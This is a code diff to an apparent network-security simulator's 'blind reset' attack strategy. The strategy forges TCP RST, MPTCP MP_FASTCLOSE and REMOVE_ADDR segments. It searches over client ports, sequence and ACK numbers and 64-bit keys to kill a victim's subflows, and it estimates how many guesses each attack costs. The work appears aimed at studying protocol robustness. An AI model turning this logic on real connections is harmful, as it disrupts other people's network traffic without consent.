@@ -5,10 +5,14 @@
  *
  * With knowledge (it saw the subflow), it uses the sequence numbers it saw
  * last, which the victim accepts only if nothing moved since (RFC 5961:
- * a RST must hit RCV.NXT exactly). Without (off-path), it knows only who
- * talks to which service, and guesses the client's port and the sequence
- * number, one real packet per guess, within its budget. MP_FASTCLOSE also
- * needs the victim's 64-bit key; without it, that is guessed too.
+ * a RST must hit RCV.NXT exactly); an MP_FASTCLOSE also needs the victim's
+ * 64-bit key, which it searches for when it did not read it. Without
+ * knowledge (off-path, or it saw nothing), it knows only who talks to which
+ * service and searches blindly (`blind-search.ts`), one real packet per
+ * guess within its budget: a RST needs the client's address and port and
+ * exactly RCV.NXT (RFC 5961 §3.2); MP_FASTCLOSE and REMOVE_ADDR ride on
+ * ACKs (RFC 8684 §3.5, §3.4.2), so they need an in-window sequence number
+ * and an acceptable ACK (RFC 5961 §5.2), and MP_FASTCLOSE the key too.
  * Whether anything breaks is up to the hosts.
  */
 import { hex64 } from '../../core/hex.ts';
@@ -17,18 +21,15 @@ import type { IpAddress } from '../../wire/ip-address.ts';
 import { formatEndpoint } from '../../wire/ip-address.ts';
 import { TCP_FLAG } from '../../wire/tcp-header.ts';
 import type { TcpOption } from '../../wire/tcp-options.ts';
+import { allValues, fixed } from '../blind-dimensions.ts';
+import { BlindSearch, runBlind, searchEstimate, type Dimension, type Dimensions, type GuessEstimate } from '../blind-search.ts';
 import type { BLIND_RESET_PARAMS } from '../catalog.ts';
 import { craftSegment } from '../craft.ts';
 import type { KnownConnection } from '../knowledge.ts';
+import { blindTarget, endsOf, pointText, seenTarget, type SegmentPoint, type SegmentTarget } from '../segment-target.ts';
 import type { AttackContext, AttackStrategy, StrategyDefinition } from '../strategy.ts';
 
 type Params = Out<typeof BLIND_RESET_PARAMS>;
-
-/** Linux's ephemeral ports (net.ipv4.ip_local_port_range 32768 60999). */
-const EPHEMERAL_LOW = 32768;
-const EPHEMERAL_COUNT = 60999 - 32768 + 1;
-/** The receive window a Linux host advertises early on (ours: 6 MiB), for in-window guesses. */
-const TYPICAL_WINDOW = 6 * 1024 * 1024;
 
 interface Target {
   from: { addr: IpAddress; port: number };
@@ -36,6 +37,8 @@ interface Target {
   seq: number;
   ack: number;
 }
+
+type Point = SegmentPoint & { key?: bigint };
 
 function options(p: Params, key: bigint | null): TcpOption[] {
   switch (p.method) {
@@ -51,12 +54,25 @@ function options(p: Params, key: bigint | null): TcpOption[] {
   }
 }
 
+/** MP_FASTCLOSE and REMOVE_ADDR ride on ACKs (RFC 8684 §3.5, §3.4.2); the others are resets. */
+const ridesOnAck = (p: Params) => p.method === 'mp-fastclose' || p.method === 'remove-addr';
+
 function flagsFor(p: Params): number {
-  // MP_FASTCLOSE and REMOVE_ADDR ride on ACKs (RFC 8684 §3.5, §3.4.2); the others are resets.
-  return p.method === 'mp-fastclose' || p.method === 'remove-addr' ? TCP_FLAG.ACK : TCP_FLAG.RST | TCP_FLAG.ACK;
+  return ridesOnAck(p) ? TCP_FLAG.ACK : TCP_FLAG.RST | TCP_FLAG.ACK;
+}
+
+/** A search and what it sends: over keys on a subflow it saw, or over everything on the service's subflow. */
+interface Plan {
+  target: SegmentTarget;
+  dims: Dimensions<Point>;
+  what: string;
+  why: string;
 }
 
 class BlindReset implements AttackStrategy {
+  /** The search it ran; null when it needed none; undefined before it struck. */
+  private ran: GuessEstimate | null | undefined;
+
   constructor(private readonly p: Params) {}
 
   start(ctx: AttackContext): void {
@@ -64,12 +80,74 @@ class BlindReset implements AttackStrategy {
   }
 
   private strike(ctx: AttackContext): void {
-    const known = [...ctx.knowledge.connections.values()];
-    if (known.length > 0) {
-      for (const c of known) this.informed(ctx, c);
+    const plan = this.plan(ctx);
+    if (plan === 'informed') {
+      this.ran = null;
+      for (const c of ctx.knowledge.connections.values()) this.informed(ctx, c);
       return;
     }
-    this.blind(ctx);
+    if (!plan) return;
+    const search = new BlindSearch(plan.dims, ctx.rng);
+    this.ran = searchEstimate(plan.dims, plan.why);
+    runBlind(ctx, plan.what, {
+      search,
+      spacingUs: this.p.spacingUs,
+      packet: (pt, n) => {
+        const rides = ridesOnAck(this.p);
+        const bytes = craftSegment({
+          ...endsOf(plan.target, pt, this.p.victim),
+          seq: pt.seq,
+          ack: pt.ack,
+          // A blind RST carries no ACK: RFC 5961 §3.2 checks its sequence number alone.
+          flags: rides ? TCP_FLAG.ACK : plan.target.seen ? TCP_FLAG.RST | TCP_FLAG.ACK : TCP_FLAG.RST,
+          window: plan.target.window,
+          options: [...(plan.target.timestamps && rides ? [plan.target.timestamps] : []), ...options(this.p, pt.key ?? null)],
+        });
+        return { bytes, note: `${this.p.method} guess ${n}: ${pointText(pt)}${pt.key !== undefined ? `, key ${hex64(pt.key)}` : ''}` };
+      },
+    });
+  }
+
+  /**
+   * What it would do with what it knows now: 'informed' when it saw a
+   * subflow and needs nothing else, a search over keys when it saw one but
+   * not the victim's key, else a search over everything; null when no
+   * service is advertised.
+   */
+  private plan(ctx: AttackContext): Plan | 'informed' | null {
+    const victimIsClient = this.p.victim === 'client';
+    const known = [...ctx.knowledge.connections.values()];
+    if (known.length > 0) {
+      if (this.p.method !== 'mp-fastclose') return 'informed';
+      const c = latestSeen(ctx, known, this.p.victim);
+      const pair = c ? ctx.knowledge.keyPairs.get(c.key) : undefined;
+      const key = victimIsClient ? pair?.client : pair?.server;
+      if (!c || key !== undefined) return 'informed';
+      const target = seenTarget(ctx, c, this.p.victim);
+      return {
+        target,
+        dims: { ...target.dims, key: allValues(ctx, 64, "keys (MP_FASTCLOSE carries the receiver's key, RFC 8684 §3.5)") },
+        what: `saw ${c.key} but not the ${this.p.victim}'s key`,
+        why: "It saw the subflow, so its numbers are right until the connection moves on, but MP_FASTCLOSE must carry the victim's 64-bit key, which it never read.",
+      };
+    }
+    const rst = !ridesOnAck(this.p);
+    const target = blindTarget(ctx, rst ? 'exact' : 'in-window');
+    if (!target) return null;
+    const noAck: Dimension<number> = fixed(0, 'no ACK number (a RST is checked on its sequence number alone, RFC 5961 §3.2)');
+    const dims: Dimensions<Point> = rst
+      ? { ...target.dims, ack: noAck }
+      : this.p.method === 'mp-fastclose'
+        ? { ...target.dims, key: allValues(ctx, 64, "keys (MP_FASTCLOSE carries the receiver's key, RFC 8684 §3.5)") }
+        : target.dims;
+    return {
+      target,
+      dims,
+      what: 'knows no subflow',
+      why: rst
+        ? 'Since RFC 5961 a RST is accepted only at exactly RCV.NXT, so a blind one must hit the client port and all 32 bits of the sequence number at once.'
+        : `${this.p.method === 'mp-fastclose' ? 'MP_FASTCLOSE' : 'REMOVE_ADDR'} rides on an ACK, which the victim acts on only with an in-window sequence number and, since RFC 5961, an ACK number within MAX.SND.WND of SND.UNA${this.p.method === 'mp-fastclose' ? ", and it must carry the victim's 64-bit key" : ''}.`,
+    };
   }
 
   /** It saw the subflow: forge from what it saw. */
@@ -86,63 +164,44 @@ class BlindReset implements AttackStrategy {
       ack: fromVictim?.nextSeq ?? 0,
     };
     let key: bigint | null = null;
-    let guess = towardVictim === undefined;
+    let keyGuessed = false;
     if (this.p.method === 'mp-fastclose') {
       const pair = kb.keyPairs.get(c.key);
       key = (victimIsClient ? pair?.client : pair?.server) ?? null;
       if (key === null) {
+        // No subflow seen toward the victim to search keys on (see `plan`): one guess.
         key = ctx.rng.u64();
-        guess = true;
+        keyGuessed = true;
       }
     }
-    const bytes = craftSegment({ ...addressesOf(t), seq: t.seq, ack: t.ack, flags: flagsFor(this.p), options: options(this.p, key) });
+    const guess = towardVictim === undefined || keyGuessed;
+    const bytes = craftSegment({ src: t.from.addr, dst: t.to.addr, srcPort: t.from.port, dstPort: t.to.port, seq: t.seq, ack: t.ack, flags: flagsFor(this.p), options: options(this.p, key) });
     const seen = towardVictim ? `the sequence number it saw last (${t.seq}, at ${towardVictim.lastSeenUs} µs)` : 'a guessed sequence number';
-    const withKey = this.p.method === 'mp-fastclose' ? (guess && key !== null ? `, a guessed key ${hex64(key)}` : `, the victim's key ${hex64(key!)} it read earlier`) : '';
+    const withKey = this.p.method === 'mp-fastclose' ? (keyGuessed ? `, a guessed key ${hex64(key!)}` : `, the victim's key ${hex64(key!)} it read earlier`) : '';
     ctx.inject(bytes, `${this.p.method} to ${formatEndpoint(t.to.addr, t.to.port)} as ${formatEndpoint(t.from.addr, t.from.port)}, with ${seen}${withKey}`, { guess });
   }
 
-  /** Off-path: guess the client's port and the sequence number, one packet per guess. */
-  private blind(ctx: AttackContext): void {
-    const services = ctx.services;
-    if (services.length === 0) return;
-    ctx.act({ kind: 'attacker-blind', note: `knows no subflow: guesses ports and sequence numbers, ${ctx.spec.guessBudget} packets at most` });
-    let i = 0;
-    const next = () => {
-      const s = services[i % services.length]!;
-      const client = s.clientAddresses.find((a) => a.family === s.server.family);
-      if (!client) return;
-      const clientPort = EPHEMERAL_LOW + ctx.rng.below(EPHEMERAL_COUNT);
-      const victimIsClient = this.p.victim === 'client';
-      const t: Target = {
-        from: victimIsClient ? { addr: s.server, port: s.port } : { addr: client, port: clientPort },
-        to: victimIsClient ? { addr: client, port: clientPort } : { addr: s.server, port: s.port },
-        seq: ctx.rng.u32(),
-        ack: ctx.rng.u32(),
-      };
-      const key = this.p.method === 'mp-fastclose' ? ctx.rng.u64() : null;
-      const bytes = craftSegment({ ...addressesOf(t), seq: t.seq, ack: t.ack, flags: flagsFor(this.p), options: options(this.p, key) });
-      if (ctx.inject(bytes, `guess ${i + 1}: port ${clientPort}, seq ${t.seq}`, { guess: true }) === null) return;
-      i++;
-      ctx.later(ctx.now() + this.p.spacingUs, next);
-    };
-    next();
-  }
-
-  expectedGuesses(): { guesses: number; why: string } {
-    const ports = EPHEMERAL_COUNT;
-    if (this.p.method === 'rst' || this.p.method === 'mp-tcprst') {
-      return { guesses: ports * 2 ** 32, why: `${ports} client ports × 2^32 sequence numbers: since RFC 5961 a RST is accepted only at exactly RCV.NXT` };
-    }
-    const inWindow = Math.ceil(2 ** 32 / TYPICAL_WINDOW);
-    if (this.p.method === 'remove-addr') {
-      return { guesses: ports * inWindow, why: `${ports} client ports × ${inWindow} sequence numbers (any in a ${TYPICAL_WINDOW}-byte window will do): REMOVE_ADDR carries no HMAC` };
-    }
-    return { guesses: ports * inWindow * 2 ** 64, why: `${ports} client ports × ${inWindow} in-window sequence numbers × 2^64 keys: MP_FASTCLOSE must carry the victim's key` };
+  expectedGuesses(ctx: AttackContext): GuessEstimate | null {
+    if (this.ran !== undefined) return this.ran;
+    // Not struck yet: the search it would run, without drawing from its own generator.
+    const plan = this.plan({ ...ctx, rng: ctx.rng.fork('estimate') });
+    return plan === 'informed' || plan === null ? null : searchEstimate(plan.dims, plan.why);
   }
 }
 
-function addressesOf(t: Target) {
-  return { src: t.from.addr, dst: t.to.addr, srcPort: t.from.port, dstPort: t.to.port };
+/** Of the subflows it saw both ways toward the victim, the one it saw last. */
+function latestSeen(ctx: AttackContext, known: KnownConnection[], victim: 'client' | 'server'): KnownConnection | null {
+  let best: KnownConnection | null = null;
+  let when = -1;
+  for (const c of known) {
+    const { toServer, toClient } = ctx.knowledge.flowsOf(c);
+    const toVictim = victim === 'client' ? toClient : toServer;
+    if (toVictim && toVictim.lastSeenUs > when) {
+      best = c;
+      when = toVictim.lastSeenUs;
+    }
+  }
+  return best;
 }
 
 export const blindReset: StrategyDefinition = {
